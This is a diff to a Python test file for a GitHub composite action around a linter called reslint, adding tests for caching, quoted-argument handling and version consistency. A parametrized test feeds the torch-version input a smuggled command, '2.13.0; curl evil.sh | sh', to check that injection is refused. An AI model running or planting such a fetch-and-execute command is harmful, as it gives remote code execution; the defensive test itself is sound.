@@ -51,6 +51,7 @@ def run_action_step(entry: dict, checkout: Path, inputs: dict[str, str], github_
     values = {f"inputs.{name}": spec.get("default", "") for name, spec in ACTION["inputs"].items()}
     values.update({f"inputs.{name}": value for name, value in inputs.items()})
     values["github.action_path"] = str(ROOT)
+    values["runner.temp"] = str(github_output.parent)
 
     def substitute(text: str) -> str:
         return EXPRESSION.sub(lambda match: values[match.group(1)], text)
@@ -71,7 +72,8 @@ def test_action_is_a_composite_action_that_uploads_then_gates():
     uses = [entry.get("uses", "") for entry in STEPS]
     assert uses[0].startswith("actions/setup-python@")
     order = [entry.get("id") or entry.get("uses", "").split("@")[0] for entry in STEPS]
-    assert order == ["actions/setup-python", "install", "sarif", "github/codeql-action/upload-sarif", "gate"]
+    assert order == ["actions/setup-python", "actions/cache", "install", "actions/cache", "sarif",
+                     "github/codeql-action/upload-sarif", "gate"]
     upload = STEPS[order.index("github/codeql-action/upload-sarif")]
     assert upload["with"]["sarif_file"] == "${{ inputs.working-directory }}/${{ inputs.sarif-file }}"
     for entry in STEPS:
@@ -115,6 +117,46 @@ def test_action_passes_a_clean_model(tmp_path):
     assert (gate.returncode, gate.stdout, gate.stderr) == (0, "", "")
 
 
+def test_action_caches_pip_downloads_and_reslint_results():
+    pip_cache, results_cache = (entry for entry in STEPS if entry.get("uses", "").startswith("actions/cache@"))
+    assert pip_cache["with"]["path"] == step("install")["env"]["PIP_CACHE_DIR"] == "${{ runner.temp }}/reslint-pip-cache"
+    assert "inputs.torch-version" in pip_cache["with"]["key"] and "inputs.requirements" in pip_cache["with"]["key"]
+    assert results_cache["with"]["path"] == "${{ inputs.working-directory }}/.reslint_cache"
+    assert results_cache["with"]["restore-keys"].startswith("reslint-results-")
+    assert pip_cache["if"] == results_cache["if"] == "inputs.cache == 'true'"
+
+
+# A factory whose EXPR holds a space and a path with a space: `read -ra` split both (exit 2: EXPR
+# does not parse, config not found); the words must reach reslint as written.
+QUOTED_ARGS = """--model "models/gpt.py:GPT(GPTConfig(n_layer=2, n_head=4))" --config 'ci conf/reslint.toml' --ignore RL101"""
+
+
+def test_action_passes_quoted_arguments_as_single_words(tmp_path):
+    checkout = repository(tmp_path / "clean", CLEAN_MODEL)
+    (checkout / "ci conf").mkdir()
+    (checkout / "ci conf" / "reslint.toml").write_text("ignore = ['RL201']\n")
+    (checkout / "my models").mkdir()
+    (checkout / "my models" / "bad.py").write_text(BAD_MODEL)
+    output = tmp_path / "github_output"
+    inputs = {"args": QUOTED_ARGS, "paths": "models 'my models'"}
+    sarif = run_action_step(step("sarif"), checkout, inputs, output)
+    assert (sarif.returncode, sarif.stderr) == (0, "")
+    results = json.loads((checkout / "reslint.sarif").read_text())["runs"][0]["results"]
+    assert [result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in results] == [
+        "my%20models/bad.py"]
+    gate = run_action_step(step("gate"), checkout, inputs, output)
+    assert gate.returncode == 1, gate.stderr
+    assert gate.stdout.startswith("::warning file=my models/bad.py,line=37,col=17,title=RL103::")
+    assert len(gate.stdout.splitlines()) == 1
+
+
+def test_action_stops_on_unbalanced_quotes(tmp_path):
+    checkout = repository(tmp_path / "clean", CLEAN_MODEL)
+    result = run_action_step(step("gate"), checkout, {"args": "--ignore 'RL101"}, tmp_path / "out")
+    assert result.returncode == 2
+    assert result.stderr == "::error title=reslint::RESLINT_ARGS: cannot split \"--ignore 'RL101\": No closing quotation\n"
+
+
 @pytest.mark.parametrize("version", ["latest", ">=2.1", "2.13.0; curl evil.sh | sh", "2.*"])
 def test_install_step_refuses_an_unpinned_torch(tmp_path, version):
     result = run_action_step(step("install"), tmp_path, {"torch-version": version}, tmp_path / "out")
@@ -152,3 +194,14 @@ def test_readme_gitlab_job_gates(tmp_path, model, status):
     report = json.loads((checkout / "reslint.json").read_text())
     assert [(f["code"], f["path"], f["line"]) for f in report["findings"]] == (
         [("RL103", "models/bad_model.py", 37)] if status else [])
+
+
+def test_readme_snippets_changelog_and_package_name_one_version():
+    import reslint
+
+    version = reslint.__version__
+    assert re.findall(r"rev: v([\w.]+)", README) == [version]  # pre-commit
+    assert re.findall(r"reslint/reslint@v([\w.]+)", README) == [version]  # the action
+    assert re.findall(r"pip install reslint==([\w.]+)", README) == [version]  # GitLab
+    changelog = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
+    assert re.findall(r"^## \[([\w.]+)\]", changelog, re.M)[0] == version
